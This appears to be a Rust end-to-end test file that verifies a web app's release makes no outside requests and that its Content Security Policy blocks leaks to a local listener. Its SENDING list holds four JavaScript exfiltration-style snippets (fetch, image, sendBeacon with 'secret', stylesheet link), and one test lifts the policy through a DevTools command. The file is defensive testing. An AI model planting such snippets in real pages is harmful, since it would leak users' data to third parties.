//! Nothing leaves the machine: every request of a whole tour is for a file of the release, and of nobody else.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use anyhow::{Context, Result};
use e2e::{DevTools, PAGES, Page, Stage, address, downloads, is_chromium, network, variable};
use serde_json::json;

use crate::steps::{Tongue, answer_all, create, make_plan};

#[tokio::test]
async fn a_whole_tour_asks_for_files_of_the_release_and_for_nothing_else() -> Result<()> {
    let page = stage().open().await?;
    tour(&page).await?;
    let release = release()?;
    let served = network::served()?;
    let strange: Vec<_> = served.iter().filter(|path| !is_of(&release, path)).collect();
    assert!(strange.is_empty(), "the server was asked for {strange:?}");
    assert!(served.iter().any(|path| path.ends_with("_bg.wasm")), "the server noted nothing: {served:?}");
    if is_chromium()? {
        let requests = network::requests(&page.client).await?;
        let strange: Vec<_> = requests.iter().filter(|address| !is_own(&release, address)).collect();
        assert!(strange.is_empty(), "the browser asked for {strange:?}");
        assert!(requests.iter().any(|address| address.ends_with("_bg.wasm")), "{requests:?}");
        let refused = network::refused(&page.client).await?;
        assert!(refused.is_empty(), "the policy refused {refused:?}");
    }
    page.close().await
}

#[tokio::test]
async fn a_request_to_somebody_else_is_refused_and_the_page_is_told() -> Result<()> {
    let page = Tongue::Ja.stage().open().await?;
    let other = Other::listen()?;
    let listen = "window.refused = [];\
        document.addEventListener('securitypolicyviolation', (event) => { window.refused.push(event.blockedURI); });";
    page.script(listen, vec![]).await?;
    for send in SENDING {
        page.script("window.refused = [];", vec![]).await?;
        page.script(send, vec![json!(other.address)]).await?;
        let told = "return window.refused.some((address) => address.startsWith(arguments[0]));";
        page.until("the page is told", || async {
            Ok(page.script(told, vec![json!(other.address)]).await? == json!(true))
        })
        .await
        .with_context(|| format!("after {send}"))?;
    }
    assert_eq!(other.heard(), 0, "the policy lets nothing through");
    page.close().await
}

/// Without these two, logs with nothing in them would prove nothing.
#[tokio::test]
#[ignore = "Chromium's driver alone gives the browser's log"]
async fn a_request_to_somebody_else_is_refused_and_the_refusal_is_seen() -> Result<()> {
    let page = stage().open().await?;
    let other = Other::listen()?;
    for (number, send) in SENDING.iter().enumerate() {
        let leak = format!("{}/{number}", other.address);
        page.script(send, vec![json!(leak)]).await?;
        page.until("the refusal is logged", || async {
            Ok(network::refused(&page.client).await?.iter().any(|message| message.contains(&leak)))
        })
        .await
        .with_context(|| format!("after {send}"))?;
    }
    assert_eq!(other.heard(), 0, "the policy lets nothing through");
    page.close().await
}

#[tokio::test]
#[ignore = "Chromium's driver alone gives the browser's log, and its command alone lifts the policy"]
async fn a_request_to_somebody_else_would_be_seen_if_there_were_no_policy() -> Result<()> {
    let page = stage().open().await?;
    page.client.issue_cmd(DevTools::new("Page.setBypassCSP", json!({ "enabled": true }))).await?;
    page.reload().await?;
    let release = release()?;
    let other = Other::listen()?;
    for (number, send) in SENDING.iter().enumerate() {
        let leak = format!("{}/{number}", other.address);
        page.script(send, vec![json!(leak)]).await?;
        page.until("the request is logged", || async {
            let requests = network::requests(&page.client).await?;
            Ok(requests.iter().any(|address| *address == leak && !is_own(&release, address)))
        })
        .await
        .with_context(|| format!("after {send}"))?;
    }
    page.until("the other hears of it", || async { Ok(other.heard() > 0) }).await?;
    page.close().await
}

/// Each sends to the address that it is given, if it may.
const SENDING: [&str; 4] = [
    "fetch(arguments[0]).catch(() => {});",
    "new Image().src = arguments[0];",
    "navigator.sendBeacon(arguments[0], 'secret');",
    "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = arguments[0]; document.head.append(link);",
];

fn stage() -> Stage {
    Stage { logs_network: true, ..Tongue::Ja.stage() }
}

/// Creates, answers, plans, exports, loads anew, and looks at every page there is.
async fn tour(page: &Page) -> Result<()> {
    create(page, Tongue::Ja, "秘密の会社").await?;
    answer_all(page, Tongue::Ja, &[1, 2, 0]).await?;
    page.click("link", "目標").await?;
    page.set_date("開始日", "2027-04-01").await?;
    page.set_date("期限", "2028-03-31").await?;
    make_plan(page, Tongue::Ja).await?;
    page.is_kept().await?;
    let folder = downloads::prepare(&page.client).await?;
    page.click("link", "設定").await?;
    page.click("button", "ファイルに書き出す").await?;
    downloads::arrived(&folder, "json").await?;
    std::fs::remove_dir_all(&folder)?;
    page.reload().await?;
    let id = page.script("return location.hash.split('/')[2];", vec![]).await?;
    for tail in PAGES {
        page.go(&tail.replace("{id}", id.as_str().context("the program's id")?)).await?;
    }
    Ok(())
}

/// The paths of the release's files.
fn release() -> Result<BTreeSet<String>> {
    let folder = variable("OKAERI_RELEASE")?;
    // The rescue screen and the safe start are asked for in the address of the page itself.
    let mut paths = BTreeSet::from(["/", "/?", "/?safe", "/?rescue"].map(str::to_owned));
    collect(Path::new(&folder), "/", &mut paths)?;
    Ok(paths)
}

fn collect(folder: &Path, above: &str, paths: &mut BTreeSet<String>) -> Result<()> {
    for entry in std::fs::read_dir(folder)? {
        let entry = entry?;
        let path = format!("{above}{}", entry.file_name().to_string_lossy());
        if entry.path().is_dir() {
            collect(&entry.path(), &format!("{path}/"), paths)?;
        } else {
            paths.insert(path);
        }
    }
    Ok(())
}

/// Nothing but the name of a file: what follows it could carry what was typed.
fn is_of(release: &BTreeSet<String>, path: &str) -> bool {
    release.contains(path)
}

/// A file of the release; or what the page itself made, which no network is asked for.
fn is_own(release: &BTreeSet<String>, asked: &str) -> bool {
    let origin = address().unwrap_or_default();
    let origin = origin.trim_end_matches('/');
    let made_here = asked.starts_with("data:") || asked.starts_with(&format!("blob:{origin}/"));
    made_here || asked.strip_prefix(origin).is_some_and(|path| is_of(release, path))
}

/// Somebody else on this machine, who counts who calls.
struct Other {
    address: String,
    calls: Arc<AtomicUsize>,
}

impl Other {
    fn listen() -> Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        let address = format!("http://127.0.0.1:{}", listener.local_addr()?.port());
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&calls);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                thread::spawn(move || answer(stream));
            }
        });
        Ok(Self { address, calls })
    }

    fn heard(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

fn answer(mut stream: TcpStream) -> std::io::Result<()> {
    let _length = stream.read(&mut [0; 4096])?;
    stream.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
}
